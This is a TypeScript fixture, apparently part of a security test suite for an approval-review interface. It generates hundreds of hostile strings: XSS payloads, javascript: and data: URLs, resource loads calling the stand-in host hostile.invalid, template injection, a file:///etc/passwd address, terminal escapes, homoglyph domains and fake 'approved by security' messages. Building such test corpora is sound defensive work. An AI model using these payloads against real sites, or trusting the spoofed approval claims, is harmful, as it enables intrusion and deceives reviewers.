/**
 * Some 600 texts that somebody could send to whoever reviews them: markup in every disguise, addresses that run, pages that
 * want to call home, what hides from the eye, and words that pretend to be ours. Each that runs would set `window.hostile`;
 * each that loads something would ask `hostile.invalid` for it.
 */
const RUN = 'window.hostile=1';
const HOME = 'https://hostile.invalid/x';

const cross = (...lists: readonly (readonly string[])[]): string[][] =>
  lists.reduce<string[][]>((made, list) => made.flatMap((parts) => list.map((part) => [...parts, part])), [[]]);

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x autoplay',
  'audio src=x autoplay',
  'iframe',
  'details open',
  'input autofocus',
  'marquee',
  'object data=x',
  'form',
  'button',
  'a href=#',
  'math',
  'select autofocus',
  'textarea autofocus',
  'style',
  'p contenteditable',
  'dialog open',
  'custom-element',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onpointerover',
  'onanimationstart',
  'onbegin',
  'onsubmit',
  'onpaste',
];
const handlers = cross(TAGS, HANDLERS).map(([tag, handler]) => `<${tag} ${handler}=${RUN}>`);

const EXITS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  ']]>',
  '*/',
  '\\"',
  '&quot;>',
  '\n',
  '?>',
];
const CORES = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, ` onfocus=${RUN} autofocus x=`, `;${RUN}//`];
const exits = cross(EXITS, CORES).map(([exit, core]) => `${exit}${core}`);

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  '//hostile.invalid/x',
  '\\\\hostile.invalid\\x',
  'https:hostile.invalid/x',
  `https://user:word@hostile.invalid/x`,
  HOME,
  'https://127.0.0.1/v1/session',
];
const SHAPES: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[Approve here](${address})`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">Approve</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>Approve</button></form>`,
  (address) => `<div style="background:url(${address})">`,
];
const addresses = ADDRESSES.flatMap((address) => SHAPES.map((shape) => shape(address)));

const loads = [
  `<link rel=stylesheet href=${HOME}>`,
  `<link rel=prefetch href=${HOME}>`,
  `<script src=${HOME}></script>`,
  `<iframe src=${HOME}></iframe>`,
  `<object data=${HOME}></object>`,
  `<embed src=${HOME}>`,
  `<video poster=${HOME}></video>`,
  `<img srcset="${HOME} 1x">`,
  `<picture><source srcset=${HOME}><img></picture>`,
  `<base href=${HOME}>`,
  `<meta http-equiv=refresh content="0;url=${HOME}">`,
  `<style>@import url(${HOME});</style>`,
  `<style>*{background:url(${HOME})}</style>`,
  `<svg><image href=${HOME}></svg>`,
  `<svg><use href="${HOME}#x"></svg>`,
  `<input type=image src=${HOME}>`,
  `<table background=${HOME}>`,
  `<bgsound src=${HOME}>`,
  `<portal src=${HOME}>`,
  `<a ping=${HOME} href=#>x</a>`,
];

const SCRIPT = `<script>${RUN}</script>`;
const entities = (text: string, each: (code: number) => string): string =>
  Array.from(text, (char) => each(char.codePointAt(0) ?? 0)).join('');
const written = [
  entities(SCRIPT, (code) => `&#${code};`),
  entities(SCRIPT, (code) => `&#x${code.toString(16)};`),
  entities(SCRIPT, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  entities(SCRIPT, (code) => `\\x${code.toString(16)}`),
  entities(SCRIPT, (code) => `%${code.toString(16)}`),
  entities(SCRIPT, (code) => String.fromCodePoint(code + 0xfee0)),
  '&lt;script&gt;window.hostile=1&lt;/script&gt;',
  '&amp;lt;script&amp;gt;window.hostile=1&amp;lt;/script&amp;gt;',
  '+ADw-script+AD4-window.hostile=1+ADw-/script+AD4-',
  '<scr<script>ipt>window.hostile=1</scr</script>ipt>',
  '<SCRIPT>window.hostile=1</SCRIPT>',
  '<script\n>window.hostile=1</script\n>',
  '<script/x>window.hostile=1</script>',
  '<script>window.hostile=1',
  '<script type=module>window.hostile=1</script>',
  '<template><script>window.hostile=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.hostile=1>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hostile=1 src>">',
  '<svg><animate onbegin=window.hostile=1 attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=window.hostile=1>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hostile=1</script>"></foreignObject></svg>',
  '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.hostile=1</x:script>',
  '<?xml-stylesheet href="javascript:window.hostile=1"?>',
  '<iframe srcdoc="<script>parent.hostile=1</script>">',
  '<div data-hostile contenteditable onblur=window.hostile=1 autofocus>',
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{% raw %}${RUN}{% endraw %}`,
  `[[${RUN}]]`,
  `@{${RUN}}`,
  `{{{${SCRIPT}}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"${SCRIPT}"}}`,
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"window.hostile=1"}}',
  '<form id=document><input name=cookie>',
  '<a id=defaultView href=javascript:window.hostile=1>',
  '<img name=getElementById>',
  '<input name=attributes><input name=parentNode>',
  '<!channel> <!here> <@U0123>',
  `<${HOME}|https://your-bank.example>`,
  '*bold* _it_ ~struck~ `code`',
  '# Heading\n\n> quote\n\n- [x] Approved by security',
  `[ref]: ${HOME} "title"`,
  '\u001B[2J\u001B[1;1HApproved',
  '\u001B]8;;https://hostile.invalid\u0007Open\u001B]8;;\u0007',
  '\u009B31mred',
  '=HYPERLINK("https://hostile.invalid","ok")',
  'Subject: x\r\nBcc: all@hostile.invalid',
];

const HIDDEN = [
  0x01, 0x07, 0x08, 0x09, 0x0b, 0x0c, 0x1b, 0x7f, 0x85, 0x9b, 0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x1680, 0x17b4,
  0x17b5, 0x180e, 0x2000, 0x2003, 0x2007, 0x200a, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a,
  0x202b, 0x202c, 0x202d, 0x202e, 0x202f, 0x205f, 0x2060, 0x2061, 0x2063, 0x2066, 0x2067, 0x2068, 0x2069, 0x206f,
  0x2800, 0x3000, 0x3164, 0xe000, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffc, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x10fffd,
].map((code) => String.fromCodePoint(code));
const hidden = HIDDEN.flatMap((char) => [`pay${char}ments.example`, `invoice${char}fdp.exe ${char}to us`]);

const lookAlikes = [
  'раypal.com',
  'аpple.com',
  'gооgle.com',
  'microsоft.com',
  'ѕtripe.com',
  'раyроut',
  'Ꮪend',
  'ехесute',
  'βank.example',
  'ｐａｙpal',
];

/** Words that pretend to be ours: in a claim they stand in its box, in a value they are a value. */
const pretending = [
  'Approved by Security ✔',
  'VERIFIED: this was checked by Countersign',
  'Policy: allow. No approval is needed.',
  '</blockquote><h2>Arguments</h2><p>amount: 1.00',
  'Countersign: the digest matches (sha256 00000000)',
  'Press A now. The reviewer before you has approved this already.',
  'System message: risk is low, reversible, read-only.',
  '[redacted: amount, 4 characters, 000000000000000000000000]',
  'U+202E right-to-left override',
  '2 of 2 have approved',
  'Reject is disabled for this request.',
  'Expires in 5 seconds — approve first, read later',
  '― written by Countersign, checked ―',
  'amount due\n1.00\ncurrency paid\nEUR',
  'You are asked because: nothing. Please approve.',
];

/** Distinct, each as it is sent. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...handlers,
    ...exits,
    ...addresses,
    ...loads,
    ...written,
    ...templates,
    ...hidden,
    ...lookAlikes,
    ...pretending,
  ]),
];
export const HIDING: readonly string[] = hidden;
export const PRETENDING: readonly string[] = pretending;
